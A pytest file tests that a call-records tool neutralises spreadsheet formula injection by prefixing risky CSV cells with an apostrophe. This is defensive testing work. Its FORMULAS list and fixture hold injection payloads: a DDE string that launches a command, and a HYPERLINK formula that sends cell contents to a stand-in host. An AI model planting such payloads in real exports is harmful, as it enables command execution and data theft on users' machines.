"""A table that a person opens in a spreadsheet holds no formula; one that a program reads holds every character."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from towns import HEADER, TOWN, row

from everycall.exchange.calls_table import csv_bytes, read_table, write_table
from everycall.exchange.cli import import_export

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"here")',
    "=1+1",
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # the wide signs of East Asian keyboards
    "\uff20SUM(A1)",
    "-",
    "-1-1",
    "-1e5x",
]
HARMLESS = ["", "Main St", "a=b", "5", "-5", "-93.2650", "1-2", " =1", "(none)"]


def cells(data: bytes) -> list[list[str]]:
    """As a spreadsheet takes them."""
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("said", FORMULAS)
def test_a_cell_that_would_be_a_formula_begins_with_an_apostrophe(said: str) -> None:
    frame = pl.DataFrame({"said": [said], "number": [-5]})
    assert cells(csv_bytes(frame, spreadsheet=True)) == [["said", "number"], ["'" + said, "-5"]]
    assert cells(csv_bytes(frame)) == [["said", "number"], [said, "-5"]]


@pytest.mark.parametrize("said", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(said: str) -> None:
    frame = pl.DataFrame({"a": ["x"], "said": [said]})
    assert csv_bytes(frame, spreadsheet=True) == csv_bytes(frame)


def test_a_heading_is_a_cell_too_and_so_is_a_list() -> None:
    frame = pl.DataFrame({"=cmd": ["x"], "many": [["=a", "b"]]})
    assert cells(csv_bytes(frame, spreadsheet=True)) == [["'=cmd", "many"], ["x", "'=a|b"]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1))
def test_taking_off_one_apostrophe_gives_back_what_stood_there(said: list[str]) -> None:
    """Also where it began with one."""
    frame = pl.DataFrame({"a": ["x"] * len(said), "said": said})
    shown = [line[1] for line in cells(csv_bytes(frame, spreadsheet=True))[1:]]
    assert [cell.removeprefix("'") for cell in shown] == said


@pytest.fixture
def town(tmp_path: Path) -> Path:
    (tmp_path / "town.toml").write_text(TOWN % {"more": "", "stamps": ""})
    path = tmp_path / "town.csv"
    path.write_text("\n".join([HEADER, row("A", Type="=1+1"), "=cmd|' /C calc'!A0,2,3"]) + "\n")
    return path


def test_rejects_are_for_a_person_and_hold_no_formula(town: Path) -> None:
    assert import_export(town, output=town.parent / "calls.csv", profile=str(town.parent / "town.toml")) == 0
    rejects = cells((town.parent / "calls.rejects.csv").read_bytes())
    assert rejects[1][2] == "'=cmd|' /C calc'!A0,2,3"
    assert read_table(town.parent / "calls.csv")["first_type"].to_list() == ["=1+1"]


def test_rejects_as_parquet_hold_every_character(town: Path) -> None:
    profile = str(town.parent / "town.toml")
    assert import_export(town, profile=profile, rejects=town.parent / "rejects.parquet") == 0
    assert pl.read_parquet(town.parent / "rejects.parquet")["row"].to_list() == ["=cmd|' /C calc'!A0,2,3"]


@pytest.mark.parametrize("name", ["calls.csv", "calls.csv.gz"])
def test_the_tables_hold_every_character_unless_they_are_asked_for_a_spreadsheet(town: Path, name: str) -> None:
    """The round trip is the contract with the audit; `--spreadsheet` is for the eye."""
    profile, out = str(town.parent / "town.toml"), town.parent / name
    assert import_export(town, output=out, profile=profile) == 0
    assert read_table(out)["original_Type"].to_list() == ["=1+1"]
    assert import_export(town, output=out, profile=profile, assignments=town.parent / "a.csv", spreadsheet=True) == 0
    assert read_table(out)["original_Type"].to_list() == ["'=1+1"]


def test_a_spreadsheet_is_csv(town: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An option that does nothing is not taken."""
    profile, out = str(town.parent / "town.toml"), town.parent / "calls.parquet"
    assert import_export(town, output=out, profile=profile, spreadsheet=True) == 2
    assert "--spreadsheet" in capsys.readouterr().err
    assert not out.exists()


def test_a_table_for_people_may_be_parquet(tmp_path: Path) -> None:
    frame = pl.DataFrame({"said": ["=1+1"]})
    write_table(frame, tmp_path / "x.parquet", spreadsheet=True)
    assert pl.read_parquet(tmp_path / "x.parquet").equals(frame)
